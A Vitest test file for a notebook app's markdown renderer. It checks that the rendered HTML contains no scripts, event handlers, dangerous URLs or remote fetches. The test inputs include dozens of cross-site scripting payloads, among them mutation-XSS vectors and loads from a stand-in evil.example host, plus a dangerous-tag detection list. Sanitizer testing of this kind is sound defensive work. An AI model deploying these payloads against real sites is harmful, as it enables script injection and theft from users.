// @vitest-environment jsdom
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { renderMarkdown } from '../../../src/lib/notebook/markdown';

/** The rendered HTML as a DOM, the way the page would hold it. */
function parsed(html: string): HTMLElement {
	const host = document.createElement('div');
	host.innerHTML = html;
	return host;
}

const DANGEROUS_TAGS = [
	'script',
	'iframe',
	'frame',
	'object',
	'embed',
	'form',
	'style',
	'img',
	'svg',
	'math'
];
const URL_ATTRIBUTES = [
	'href',
	'src',
	'xlink:href',
	'action',
	'formaction',
	'srcset',
	'background',
	'poster'
];

/** Everything executable or fetching in the rendered HTML, described; empty when it is safe. */
function hazards(html: string): string[] {
	const found: string[] = [];
	for (const element of parsed(html).querySelectorAll('*')) {
		const tag = element.tagName.toLowerCase();
		if (DANGEROUS_TAGS.includes(tag) || element.namespaceURI !== 'http://www.w3.org/1999/xhtml') {
			found.push(`<${tag}>`);
		}
		for (const { name, value } of element.attributes) {
			const url = value.trim().toLowerCase().replace(/\s/g, '');
			if (name.toLowerCase().startsWith('on')) found.push(`${tag} ${name}`);
			if (name === 'style') found.push(`${tag} style`);
			if (URL_ATTRIBUTES.includes(name.toLowerCase()) && /^(?:javascript|data|vbscript):/.test(url)) {
				found.push(`${tag} ${name}=${value}`);
			}
		}
	}
	return found;
}

describe('hazards (the test oracle)', () => {
	it.each([
		['<script>alert(1)</script>', ['<script>']],
		['<a href=" JavaScript:alert(1)">x</a>', ['a href= JavaScript:alert(1)']],
		['<p onclick="x()">x</p>', ['p onclick']],
		['<img src="data:image/png,x">', ['<img>', 'img src=data:image/png,x']],
		['<svg></svg>', ['<svg>']],
		['<p style="color:red">x</p>', ['p style']],
		['<p><a href="https://example.org">ok</a></p>', []]
	])('finds the hazards in %j', (html, expected) => {
		expect(hazards(html)).toEqual(expected);
	});
});

describe('renderMarkdown: unsafe input', () => {
	it.each([
		'<script>alert(1)</script>',
		'<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
		'text <script>alert(1)</script> more',
		'<img src=x onerror=alert(1)>',
		'<img src="javascript:alert(1)">',
		'![x](javascript:alert(1))',
		'![x](https://tracker.example/pixel.png)',
		'[x](javascript:alert(1))',
		'[x](JAVASCRIPT:alert(1))',
		'[x]( javascript:alert(1))',
		'[x](java\tscript:alert(1))',
		'[x](javascript&#58;alert(1))',
		'[x](javascript&colon;alert(1))',
		'[x](&#106;avascript:alert(1))',
		'[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
		'[x](vbscript:msgbox(1))',
		'[x][ref]\n\n[ref]: javascript:alert(1)',
		'<javascript:alert(1)>',
		'<a href="javascript:alert(1)">x</a>',
		'<a href="javascript&#58;alert(1)">x</a>',
		'<a href="&#x6A;avascript:alert(1)">x</a>',
		'<a href="data:text/html,<script>alert(1)</script>">x</a>',
		'<a href="https://example.org" onmouseover="alert(1)">x</a>',
		'<svg onload=alert(1)>',
		'<svg><script>alert(1)</script></svg>',
		'<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
		'<iframe src="https://evil.example"></iframe>',
		'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
		'<style>body { display: none }</style>',
		'<p style="background:url(https://evil.example/x)">x</p>',
		'<form action="https://evil.example"><input name=x><button>go</button></form>',
		'<button formaction="javascript:alert(1)">x</button>',
		'<div onclick="alert(1)">click</div>',
		'<details open ontoggle=alert(1)>',
		'<body onload=alert(1)>',
		'<object data="javascript:alert(1)"></object>',
		'<embed src="javascript:alert(1)">',
		'<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
		'<base href="javascript:alert(1)//">',
		'<link rel=stylesheet href="https://evil.example/x.css">',
		'<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
		'<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
		'<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
		'<math><mtext><h1><a><h6></a></h6><mglyph><svg><mtext><style><a title="</style><img src onerror=alert(1)>">',
		'<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
		'<template><script>alert(1)</script></template>',
		'<!--><img src=x onerror=alert(1)>-->',
		'`<script>alert(1)</script>`',
		'```html\n<script>alert(1)</script>\n```',
		'| a |\n|---|\n| <img src=x onerror=alert(1)> |',
		'- <a href="javascript:alert(1)">x</a>',
		'> <iframe src=https://evil.example>'
	])('renders %j with nothing executable or fetching', (text) => {
		const html = renderMarkdown(text);
		expect(hazards(html)).toEqual([]);
		// and on the text itself, in case the DOM reading above ever misses something
		expect(html.toLowerCase()).not.toMatch(
			/<(?:script|iframe|img|style|form|svg|math)\b|<[^>]*(?:javascript:|\son\w+=)/
		);
	});

	it('shows code that mentions HTML as text', () => {
		const html = renderMarkdown('`<script>alert(1)</script>`');
		expect(parsed(html).querySelector('code')?.textContent).toBe('<script>alert(1)</script>');
	});

	it('keeps the text of a link whose URL is refused, without the link', () => {
		const link = parsed(renderMarkdown('[run me](javascript:alert(1))')).querySelector('a');
		expect(link?.textContent).toBe('run me');
		expect(link?.hasAttribute('href')).toBe(false);
		expect(link?.hasAttribute('target')).toBe(false);
	});

	it('shows an image as its alt text, fetching nothing', () => {
		const host = parsed(renderMarkdown('Plan ![waterfall <chart>](https://example.org/w.png) here'));
		expect(host.querySelector('img')).toBeNull();
		expect(host.textContent?.trim()).toBe('Plan waterfall <chart> here');
	});

	it('is safe for any mix of markdown and HTML fragments (property)', () => {
		const pieces = fc.constantFrom(
			'<script>',
			'</script>',
			'<img src=x onerror=alert(1)>',
			'<svg onload=alert(1)>',
			'<math>',
			'<mglyph>',
			'<style>',
			'</style>',
			'<a href="',
			'javascript:alert(1)',
			'">',
			'[x](',
			')',
			'![i](',
			'<iframe>',
			'<form>',
			'<!--',
			'-->',
			'&#58;',
			'"',
			"'",
			' onclick=alert(1) ',
			'\n\n',
			'**',
			'`',
			'| a |\n|---|\n| ',
			'text'
		);
		fc.assert(
			fc.property(fc.array(pieces, { maxLength: 12 }), (parts) => {
				expect(hazards(renderMarkdown(parts.join('')))).toEqual([]);
			}),
			{ numRuns: 300 }
		);
	});
});

describe('renderMarkdown: formatting', () => {
	it('renders headings, emphasis and strikethrough', () => {
		const host = parsed(renderMarkdown('# Plan\n\n## QIPP\n\n**bold** _em_ ~~gone~~'));
		expect(host.querySelector('h1')?.textContent).toBe('Plan');
		expect(host.querySelector('h2')?.textContent).toBe('QIPP');
		expect(host.querySelector('strong')?.textContent).toBe('bold');
		expect(host.querySelector('em')?.textContent).toBe('em');
		expect(host.querySelector('del')?.textContent).toBe('gone');
	});

	it('renders lists, with a numbered list keeping its start', () => {
		const host = parsed(renderMarkdown('- tariff\n- growth\n\n3. three\n4. four'));
		expect([...host.querySelectorAll('ul > li')].map((li) => li.textContent)).toEqual(['tariff', 'growth']);
		expect(host.querySelector('ol')?.getAttribute('start')).toBe('3');
		expect(host.querySelectorAll('ol > li')).toHaveLength(2);
	});

	it('renders task lists as box characters, not inputs', () => {
		const host = parsed(renderMarkdown('- [x] done\n- [ ] to do'));
		expect(host.querySelector('input')).toBeNull();
		expect([...host.querySelectorAll('li')].map((li) => li.textContent)).toEqual([
			'\u2611 done',
			'\u2610 to do'
		]);
	});

	it('renders tables with their column alignment', () => {
		const host = parsed(renderMarkdown('| Step | £m |\n|:--|--:|\n| Tariff | 6.8 |\n| QIPP | (9.2) |'));
		expect([...host.querySelectorAll('thead th')].map((th) => th.textContent)).toEqual(['Step', '£m']);
		expect([...host.querySelectorAll('tbody td')].map((td) => td.textContent)).toEqual([
			'Tariff',
			'6.8',
			'QIPP',
			'(9.2)'
		]);
		expect(host.querySelector('th')?.getAttribute('align')).toBe('left');
		expect(host.querySelector('td:last-child')?.getAttribute('align')).toBe('right');
	});

	it('renders code spans, code blocks and block quotes', () => {
		const host = parsed(renderMarkdown('Use `=tariff_uplift`.\n\n```\na < b\n```\n\n> published'));
		expect(host.querySelector('p > code')?.textContent).toBe('=tariff_uplift');
		expect(host.querySelector('pre > code')?.textContent).toBe('a < b\n');
		expect(host.querySelector('blockquote')?.textContent?.trim()).toBe('published');
	});

	it('renders an https link that opens in a new tab without a handle on the app', () => {
		expect(renderMarkdown('See [NHS England](https://www.england.nhs.uk "allocations").')).toBe(
			'<p>See <a href="https://www.england.nhs.uk" title="allocations" target="_blank" rel="noopener noreferrer">NHS England</a>.</p>\n'
		);
	});

	it.each([
		['<https://example.org/a?b=1&c=2>', 'https://example.org/a?b=1&c=2'],
		['https://example.org/plain', 'https://example.org/plain'],
		['[mail](mailto:finance@example.nhs.uk)', 'mailto:finance@example.nhs.uk'],
		['<a href="http://example.org">raw</a>', 'http://example.org']
	])('keeps the link in %j, opening in a new tab', (text, href) => {
		const link = parsed(renderMarkdown(text)).querySelector('a');
		expect(link?.getAttribute('href')).toBe(href);
		expect(link?.getAttribute('target')).toBe('_blank');
		expect(link?.getAttribute('rel')).toBe('noopener noreferrer');
	});

	it.each(['[x](/models/a)', '[x](#top)', '[x](file:///etc/passwd)', '[x](ftp://example.org)'])(
		'drops the URL of %j: only http(s) and mailto links are kept',
		(text) => {
			expect(parsed(renderMarkdown(text)).querySelector('a')?.hasAttribute('href')).toBe(false);
		}
	);

	it('removes raw HTML markdown does not make, keeping its text', () => {
		expect(renderMarkdown('<div class="x" id="y" data-z="1">kept <span>too</span></div>')).toBe('kept too');
	});

	it('renders nothing for an empty cell', () => {
		expect(renderMarkdown('')).toBe('');
	});
});

describe('renderMarkdown without a DOM', () => {
	it('returns the text escaped in one paragraph (as in Node or SSR)', () => {
		vi.stubGlobal('window', undefined);
		try {
			expect(renderMarkdown('**a** <script>alert("1")</script> & \'b\'')).toBe(
				'<p>**a** &lt;script&gt;alert(&quot;1&quot;)&lt;/script&gt; &amp; &#39;b&#39;</p>'
			);
		} finally {
			vi.unstubAllGlobals();
		}
		// and sanitises again once a DOM is back
		expect(renderMarkdown('**a**')).toBe('<p><strong>a</strong></p>\n');
	});
});
